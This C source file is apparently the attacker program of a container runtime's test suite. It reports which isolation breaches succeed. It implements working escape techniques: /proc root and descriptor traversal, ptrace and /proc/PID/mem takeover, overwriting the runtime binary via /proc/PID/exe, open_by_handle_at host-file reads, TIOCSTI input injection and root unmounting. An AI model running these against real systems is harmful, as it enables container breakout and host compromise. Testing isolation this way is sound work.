/* The attacker: a static program that is put into images, and run on the host where a second container that shares a
 * directory would do the same. Prints what it has got hold of, a line each; nothing is good news. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int is_stub(int pid)
{
	char path[64], comm[32] = "";
	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, comm, sizeof comm - 1);
	close(fd);
	return n > 3 && (strncmp(comm, "rt:[", 4) == 0 || strncmp(comm, "runc:[", 6) == 0);
}

static void got(const char *what, int pid)
{
	printf("got %s of %d\n", what, pid);
	fflush(stdout);
}

/* The marker is a path of the host that the container has not. */
static void look(int pid, const char *marker, int take)
{
	static const char *const ways[] = {"root", "cwd", NULL};
	char path[512];
	for (int i = 0; ways[i]; i++) {
		snprintf(path, sizeof path, "/proc/%d/%s/%s%s", pid, ways[i], i ? "../../../../../../../.." : "", marker);
		if (access(path, F_OK) == 0)
			got(ways[i], pid);
	}
	for (int fd = 3; fd < 16; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d/../../../../../../../../..%s", pid, fd, marker);
		if (access(path, F_OK) == 0)
			got("a descriptor", pid);
	}
	if (!take)
		return;
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int mem = open(path, O_RDWR | O_CLOEXEC);
	if (mem >= 0 && is_stub(pid))
		got("memory", pid);
	if (mem >= 0)
		close(mem);
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	char link[256];
	ssize_t n = readlink(path, link, sizeof link - 1);
	if (n > 0 && (link[n] = 0, strstr(link, "memfd") || strstr(link, "runc")) && is_stub(pid))
		got("the executable", pid);
}

/* What name below /proc/PID says, "" if it says nothing (any more). */
static const char *text_of(int pid, const char *name)
{
	static char buf[65536];
	char path[64];
	size_t have = 0;
	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	for (ssize_t n = 1; fd >= 0 && n > 0 && have < sizeof buf - 1; have += n > 0 ? (size_t)n : 0)
		n = read(fd, buf + have, sizeof buf - 1 - have);
	if (fd >= 0)
		close(fd);
	for (size_t i = 0; i < have; i++) /* lists of strings */
		buf[i] = buf[i] ? buf[i] : ' ';
	buf[have] = 0;
	return buf;
}

/* The host's root file system is mounted with its own root; the container's is a directory of one. */
static int hosts_mounts(const char *line)
{
	char root[256], at[256];
	for (; line; line = strchr(line, '\n'), line = line ? line + 1 : NULL)
		if (sscanf(line, "%*d %*d %*s %255s %255s", root, at) == 2 && strcmp(root, "/") == 0 && strcmp(at, "/") == 0)
			return 1;
	return 0;
}

/* What needs no right at all, and what nobody may read of a process of the runtime. The host has an abstract socket that is named
 * after the marker; its root is in group 4242, and neither is known in a user namespace. */
static void glance(int pid, const char *marker, int take)
{
	static const char *const shut[] = {"environ", "maps", "smaps", "numa_maps", "auxv", "syscall", "timerslack_ns", NULL};
	const char *text;
	if (strstr(text_of(pid, "net/unix"), marker))
		got("the host's network", pid);
	if (access("/no-mounts", F_OK) != 0 && hosts_mounts(text_of(pid, "mountinfo")))
		got("the host's mounts", pid);
	if (strstr(text_of(pid, "mounts"), marker) || strstr(text_of(pid, "mountstats"), marker))
		got("a mount of the host", pid);
	text = strstr(text_of(pid, "status"), "\nGroups:");
	if (text && (strstr(text, "\t4242 ") || strstr(text, " 4242 ") || strncmp(text + 8, "\t65534", 6) == 0))
		got("the groups of the host's root", pid);
	text = strstr(text_of(pid, "status"), "\nUid:");
	if (text && strncmp(text + 5, "\t65534\t65534\t65534", 18) == 0 && getuid() != 65534)
		got("a user of the host", pid);
	for (int i = 0; take && shut[i]; i++)
		if ((text = text_of(pid, shut[i]), strstr(text, "_RT_STUB=") || strstr(text, "memfd:rt")))
			got(shut[i], pid);
}

static void seize(int pid)
{
	int status;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) && is_stub(pid))
		got("control", pid);
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* snoop MARKER: look into every process that comes, as soon as it comes, until /stop is there, and try to take it over;
 * peek MARKER: look for the marker only. Who is behind, on a busy machine, now and then looks further ahead. */
static int snoop(const char *marker, int take)
{
	int self = getpid(), next = self + 1, stubs = 0;
	for (unsigned turn = 0; access("/stop", F_OK) != 0; turn++)
		for (int pid = next, end = next + (turn % 64 ? 3 : 512); pid < end; pid++) {
			char path[64];
			snprintf(path, sizeof path, "/proc/%d", pid);
			if (access(path, F_OK) != 0)
				continue;
			for (int i = 0, seen = 0; i < 40 && access(path, F_OK) == 0; i++) {
				int stub = is_stub(pid);
				if (stub && !seen++)
					printf("saw %d\n", pid), fflush(stdout);
				stubs += stub;
				glance(pid, marker, take);
				look(pid, marker, take);
				if (take)
					seize(pid);
			}
			next = pid + 1;
		}
	printf("met %d\n", stubs);
	return 0;
}

/* strike SIGNAL N: send a signal to the next process that comes while it is the runtime's, N times; until /stop. */
static int strike(int sig, int times)
{
	char path[64];
	int next = getpid() + 1;
	for (unsigned turn = 0; times > 0 && access("/stop", F_OK) != 0; turn++)
		for (int pid = next, end = next + (turn % 64 ? 3 : 512); pid < end; pid++) {
			if (is_stub(pid) && kill(pid, sig) == 0) {
				printf("struck %d\n", pid), fflush(stdout);
				times--;
				next = pid + 1;
			} else if (snprintf(path, sizeof path, "/proc/%d", pid) && access(path, F_OK) == 0) {
				next = pid; /* it is the program already, and will be gone; or it is still to come */
			}
		}
	return 0;
}

static int put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	ssize_t n = write(fd, text, strlen(text));
	close(fd);
	return n < 0 ? -1 : 0;
}

/* leave: go into a user and a mount namespace of one's own, and be /bin/id there. */
static int leave(void)
{
	char map[64];
	snprintf(map, sizeof map, "0 %d 1", (int)getuid());
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 || put("/proc/self/uid_map", map) < 0)
		return perror("unshare"), 1;
	if (mount("/bin/attack", "/bin/id", NULL, MS_BIND, NULL) < 0)
		return perror("mount"), 1;
	return printf("left\n"), fflush(stdout), pause();
}

/*
 * cycle: go into one mount namespace after another, until one has the number of the first; with the first's user namespace. The kernel gives
 * the lowest free number: those below it are held until it is its turn.
 */
static int cycle(void)
{
	enum { MOST = 900 };
	static int held[MOST];
	int n = 0;
	struct stat first, now;
	if (stat("/proc/self/ns/mnt", &first) < 0)
		return perror("stat"), 1;
	for (int i = 0; i < 5 * MOST; i++) {
		if (unshare(CLONE_NEWNS) < 0 || stat("/proc/self/ns/mnt", &now) < 0)
			return perror("unshare"), 1;
		if (now.st_ino == first.st_ino)
			return printf("left\n"), fflush(stdout), pause();
		if (n < MOST && (held[n] = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC)) >= 0)
			n++;
		else
			while (n > 0)
				close(held[--n]);
	}
	return printf("left, but for another number\n"), fflush(stdout), pause();
}

/* exchange A B: swap two names, again and again, until killed. */
static int exchange(const char *a, const char *b)
{
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0 && errno != ENOENT)
			return perror("renameat2"), 1;
}

/* ruin PATH: every way to change a file that one can only read. */
static int ruin(const char *path)
{
	char again[64];
	static const int flags[] = {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC};
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
	for (int i = 0; i < 3; i++) {
		int out = open(again, flags[i] | O_CLOEXEC);
		if (out < 0)
			continue;
		if (write(out, "#!/bin/false\n", 13) == 13)
			printf("got to write\n");
		char *map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, out, 0);
		if (map != MAP_FAILED)
			printf("got to map\n");
		if (ftruncate(out, 0) == 0)
			printf("got to truncate\n");
		close(out);
	}
	if (fchmod(fd, 0777) < 0)
		errno = 0;
	close(fd);
	return 0;
}

static int same_file(int fd, const char *path)
{
	struct stat a, b;
	return fstat(fd, &a) == 0 && stat(path, &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

/* hunt: hold the executable of everything that comes, and try to open it for writing when it is not busy any more, until
 * /stop is there. */
static int hunt(void)
{
	static int held[64];
	char path[64];
	int n = 0, met = 0, next = getpid() + 1;
	while (access("/stop", F_OK) != 0) {
		for (int pid = next, end = next + 8; pid < end && n < 64; pid++) {
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			int fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			next = pid;
			if (same_file(fd, "/bin/busybox") || same_file(fd, "/bin/attack")) {
				close(fd);
				continue;
			}
			held[n++] = fd;
			met++;
		}
		for (int i = 0; i < n; i++) {
			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
			int out = open(path, O_WRONLY | O_CLOEXEC);
			if (out < 0)
				continue;
			if (write(out, "#!/bin/false\n", 13) == 13)
				printf("got to write\n");
			close(out);
			close(held[i]);
			held[i--] = held[--n];
		}
	}
	printf("met %d\n", met);
	return 0;
}

/* datagrams SOCKET: what a service must not say to the manager on the other side, and what nobody should. */
static int datagrams(const char *path)
{
	static char big[200000];
	struct sockaddr_un to = {.sun_family = AF_UNIX};
	int null = open("/dev/null", O_RDWR), fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (!path || fd < 0)
		return printf("no socket\n"), 1;
	snprintf(to.sun_path, sizeof to.sun_path, "%s", path);
	memset(big, 'x', sizeof big);
	const char *texts[] = {"MAINPID=1\n", "FDSTORE=1\nFDNAME=x\n", "STOPPING=1\n", "", "READY=0\n", "X=READY=1", big, "RELOADING=1\nMAINPID=1\nREADY=1\n"};
	for (unsigned i = 0; i < sizeof texts / sizeof *texts; i++) {
		struct iovec iov = {(char *)texts[i], texts[i] == big ? sizeof big - 1 : strlen(texts[i])};
		char space[CMSG_SPACE(sizeof(int) * 100)] = "";
		struct msghdr m = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &iov, .msg_iovlen = 1, .msg_control = space,
			.msg_controllen = sizeof space};
		struct cmsghdr *c = CMSG_FIRSTHDR(&m);
		c->cmsg_level = SOL_SOCKET, c->cmsg_type = SCM_RIGHTS, c->cmsg_len = CMSG_LEN(sizeof(int) * 100);
		for (int k = 0; k < 100; k++)
			memcpy(CMSG_DATA(c) + sizeof(int) * (size_t)k, &null, sizeof null);
		if (i == sizeof texts / sizeof *texts - 1) { /* before the last, for which rt waits */
			printf("sent\n");
			fflush(stdout);
		}
		sendmsg(fd, &m, 0);
	}
	return 0;
}

/* say KIND SOCKET TEXT: sends text to a socket of kind dgram or seqpacket, or says why it cannot. */
static int say(const char *kind, const char *path, const char *text)
{
	struct sockaddr_un to = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, (strcmp(kind, "dgram") == 0 ? SOCK_DGRAM : SOCK_SEQPACKET) | SOCK_CLOEXEC, 0);
	snprintf(to.sun_path, sizeof to.sun_path, "%s", path);
	if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof to) < 0 || send(fd, text, strlen(text), 0) < 0)
		return printf("%s\n", strerror(errno)), 1;
	return 0;
}

/* master: take control of the container's init, with which one could make the calls that one's own filter denies. */
static int master(void)
{
	int status;
	if (ptrace(PTRACE_SEIZE, 1, 0, 0) == 0 && ptrace(PTRACE_INTERRUPT, 1, 0, 0) == 0 && waitpid(1, &status, __WALL) == 1)
		got("control", 1);
	if (open("/proc/1/mem", O_RDWR | O_CLOEXEC) >= 0)
		got("memory", 1);
	printf("tried\n");
	return 0;
}

/* copy: the rest of a file to another. */
static void copy(int from, int to)
{
	char buf[4096];
	for (ssize_t n; (n = read(from, buf, sizeof buf)) > 0;)
		if (write(to, buf, (size_t)n) != n)
			return;
}

static void copy_file(const char *path, int to)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	copy(fd, to);
	close(fd);
}

/* rights FILE: what this process may do, without what differs between two processes with the same rights. */
static int rights(const char *file)
{
	static const char *const names[] = {"Umask", "Uid", "Gid", "Groups", "NoNewPrivs", "Seccomp:", "Cap"};
	static char text[16384];
	int fd = open("/proc/self/status", O_RDONLY), out = open(file, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	text[read(fd, text, sizeof text - 1)] = 0;
	close(fd);
	for (char *line = strtok(text, "\n"); line; line = strtok(NULL, "\n"))
		for (unsigned i = 0; i < sizeof names / sizeof *names; i++)
			if (strncmp(line, names[i], strlen(names[i])) == 0)
				dprintf(out, "%s\n", line);
	copy_file("/proc/self/limits", out);
	dprintf(out, "mkdir: %d\n", mkdir("/tmp/made-by-rights", 0755) < 0 ? errno : 0);
	dprintf(out, "cwd: %s\n", getcwd(text, sizeof text));
	dprintf(out, "HOME: %s\n", getenv("HOME") ? getenv("HOME") : "none");
	dprintf(out, "OF: %s\n", getenv("OF") ? getenv("OF") : "none");
	dprintf(out, "oom: ");
	copy_file("/proc/self/oom_score_adj", out);
	dprintf(out, "end\n");
	return 0;
}

/* handle PATH: read a file of the host that is on the file system of the image, from the root inode of that (number 2 on ext4) and
 * by path below it; what it holds goes into /got. */
static int handle(const char *path)
{
	uint32_t root[] = {8, 1 /* FILEID_INO32_GEN */, 2, 0}; /* struct file_handle: bytes, type, inode number, generation */
	int dir = open("/", O_RDONLY | O_DIRECTORY), out;
	int fd = open_by_handle_at(dir, (struct file_handle *)(void *)root, O_RDONLY | O_DIRECTORY);
	if (fd < 0)
		return 0;
	int file = openat(fd, path + 1, O_RDONLY);
	if (file >= 0 && (out = open("/got", O_WRONLY | O_CREAT, 0644)) >= 0)
		copy(file, out);
	return 0;
}

/* type TEXT: put it into the input of every terminal among stdio, for who reads there next. */
static int type(const char *text)
{
	for (int fd = 0; fd < 3; fd++)
		for (const char *c = text; *c; c++)
			if (ioctl(fd, TIOCSTI, c) == 0)
				got("a terminal's input", fd);
	return 0;
}

/* rewind COUNT: put COUNT bytes into the pipe that is stdin, and read none. */
static int rewind_input(int count)
{
	static char bytes[4096];
	int fd = open("/proc/self/fd/0", O_WRONLY | O_NONBLOCK);
	fcntl(fd, F_SETPIPE_SZ, 1 << 20);
	return write(fd, bytes, (size_t)count) != count;
}

/* network PORT: by a socket that is stdin, the network namespace that it is of, and a service on its loopback. */
static int network(int port)
{
	const struct sockaddr nobody = {.sa_family = AF_UNSPEC};
	const struct sockaddr_in service = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr = {htonl(INADDR_LOOPBACK)}};
	struct ifreq lo = {.ifr_name = "lo"};
	char word[64] = "";
	int ns;
	if (ioctl(0, SIOCGIFADDR, &lo) == 0)
		printf("got an address of the host's\n");
	if ((ns = ioctl(0, 0x894c /* SIOCGSKNS */)) >= 0)
		printf("got a network namespace\n");
	if (connect(0, &nobody, sizeof nobody) == 0 && connect(0, (const struct sockaddr *)&service, sizeof service) == 0 && read(0, word, sizeof word - 1) > 0)
		printf("got a service's %s\n", word);
	return 0;
}

/* flood: send messages that say nothing for some seconds, then READY=1. */
static int flood(const char *path, int seconds)
{
	struct sockaddr_un to = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	snprintf(to.sun_path, sizeof to.sun_path, "%s", path ? path : "");
	for (time_t end = time(NULL) + seconds; time(NULL) < end;)
		sendto(fd, "STATUS=x", 8, 0, (struct sockaddr *)&to, sizeof to);
	return sendto(fd, "READY=1", 7, 0, (struct sockaddr *)&to, sizeof to) == 7 ? 0 : 1;
}

/* traceme: make the parent, which waits for this process's end, see a stop. */
static int traceme(void)
{
	if (ptrace(PTRACE_TRACEME, 0, 0, 0) < 0)
		return 1;
	raise(SIGSTOP);
	return 3;
}

/*
 * enter FILE: go into the user namespace of descriptor 4 and the mount namespace of descriptor 3, with all capabilities there, look for
 * a file of the host, and take away what covers the root.
 */
static int enter(const char *file)
{
	int fd;
	if (setns(4, CLONE_NEWUSER) < 0 || setns(3, CLONE_NEWNS) < 0)
		return perror("setns"), 2;
	for (int i = 0; i < 5; i++) {
		if ((fd = open(file, O_RDONLY)) >= 0)
			return printf("found %s\n", file), 1;
		if (umount2("/", MNT_DETACH) < 0 || setns(3, CLONE_NEWNS) < 0)
			break;
	}
	return printf("nothing\n"), 0;
}

/* unroot PATH: unmount the root and enter the mount namespace again, until a path of the host is there. */
static int unroot(const char *path)
{
	int ns = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
	for (int i = 0; i < 8; i++) {
		int gone = umount2("/", MNT_DETACH), err = errno;
		if (setns(ns, CLONE_NEWNS) < 0 || chdir("/") < 0)
			return perror("setns"), 1;
		if (access(path, F_OK) == 0 || access("/etc/passwd", F_OK) == 0)
			printf("got the host's files after %d rounds\n", i + 1);
		if (gone < 0)
			return printf("the root stays: %s\n", strerror(err)), 0;
	}
	return 0;
}

enum { GET_KEYRING_ID = 0, JOIN_SESSION_KEYRING = 1, SETPERM = 5, DESCRIBE = 6, SESSION_KEYRING = -3 };

/* Makes a session keyring that everybody may use, and keeps it. */
static int keyring(const char *name)
{
	long key = syscall(SYS_keyctl, JOIN_SESSION_KEYRING, name);
	if (key < 0 || syscall(SYS_keyctl, SETPERM, key, 0x3f3f3f3f) < 0)
		return perror("keyctl"), 1;
	puts("ready");
	fflush(stdout);
	for (;;)
		pause();
}

/* Prints type;uid;gid;permissions;name of the session keyring. */
static int session(void)
{
	char text[4096];
	long key = syscall(SYS_keyctl, GET_KEYRING_ID, SESSION_KEYRING, 0);
	if (key < 0 || syscall(SYS_keyctl, DESCRIBE, key, text, sizeof text) < 0)
		return perror("keyctl"), 1;
	puts(text);
	return 0;
}

/* Puts a pipe of its own on descriptor 0, open for reading and writing. */
static int own_pipe(void)
{
	int p[2], f;
	if (pipe(p) < 0 || dup2(p[0], 0) < 0 ||
	    (f = open("/proc/self/fd/0", O_RDWR)) < 0 || dup2(f, 0) < 0)
		return perror("own pipe"), 1;
	close(p[0]), close(p[1]), close(f);
	close(open("/ready", O_CREAT | O_WRONLY, 0644));
	for (;;)
		pause();
}

/* Has a socket with a name. */
static int listens(const char *path)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	strncpy(a.sun_path, path, sizeof a.sun_path - 1);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 1) < 0)
		return perror(path), 1;
	for (;;)
		pause();
}

/* Executes itself as a process of rt's would look. */
static int pretend(char **argv)
{
	int self = open("/proc/self/exe", O_RDONLY), copy = syscall(SYS_memfd_create, "rt-stub", 2 /* MFD_ALLOW_SEALING */);
	char buf[65536];
	for (ssize_t n; (n = read(self, buf, sizeof buf)) > 0;)
		if (write(copy, buf, (size_t)n) != n)
			return perror("write"), 1;
	fcntl(copy, 1033 /* F_ADD_SEALS */, 0xf);
	argv[1] = (char *)"spin";
	fexecve(copy, argv, environ);
	return perror("fexecve"), 1;
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";
	while (strcmp(verb, "spin") == 0)
		pause();
	if ((strcmp(verb, "snoop") == 0 || strcmp(verb, "peek") == 0) && argc == 3)
		return snoop(argv[2], verb[0] == 's');
	if (strcmp(verb, "strike") == 0 && argc == 4)
		return strike(atoi(argv[2]), atoi(argv[3]));
	if (strcmp(verb, "enter") == 0 && argc == 3)
		return enter(argv[2]);
	if (strcmp(verb, "leave") == 0)
		return leave();
	if (strcmp(verb, "cycle") == 0)
		return cycle();
	if (strcmp(verb, "exchange") == 0 && argc == 4)
		return exchange(argv[2], argv[3]);
	if (strcmp(verb, "ruin") == 0 && argc == 3)
		return ruin(argv[2]);
	if (strcmp(verb, "hunt") == 0)
		return hunt();
	if (strcmp(verb, "master") == 0)
		return master();
	if (strcmp(verb, "rights") == 0 && argc == 3)
		return rights(argv[2]);
	if (strcmp(verb, "handle") == 0 && argc == 3)
		return handle(argv[2]);
	if (strcmp(verb, "type") == 0 && argc == 3)
		return type(argv[2]);
	if (strcmp(verb, "rewind") == 0 && argc == 3)
		return rewind_input(atoi(argv[2]));
	if (strcmp(verb, "network") == 0 && argc == 3)
		return network(atoi(argv[2]));
	if (strcmp(verb, "unroot") == 0 && argc == 3)
		return unroot(argv[2]);
	if (strcmp(verb, "keyring") == 0 && argc == 3)
		return keyring(argv[2]);
	if (strcmp(verb, "session") == 0)
		return session();
	if (strcmp(verb, "own-pipe") == 0)
		return own_pipe();
	if (strcmp(verb, "listen") == 0 && argc == 3)
		return listens(argv[2]);
	if (strcmp(verb, "pretend") == 0)
		return pretend(argv);
	if (strcmp(verb, "traceme") == 0)
		return traceme();
	if (strcmp(verb, "flood") == 0 && argc == 3)
		return flood(getenv("NOTIFY_SOCKET"), atoi(argv[2]));
	if (strcmp(verb, "say") == 0 && argc == 5)
		return say(argv[2], argv[3], argv[4]);
	if (strcmp(verb, "datagrams") == 0)
		return datagrams(getenv("NOTIFY_SOCKET"));
	if (access("/rt-marker", F_OK) == 0 || strcmp(verb, "where") == 0) {
		char here[4096] = "";
		printf("at %s\n", getcwd(here, sizeof here) ? here : "nowhere");
	}
	printf("attack: no verb %s\n", verb);
	return 2;
}
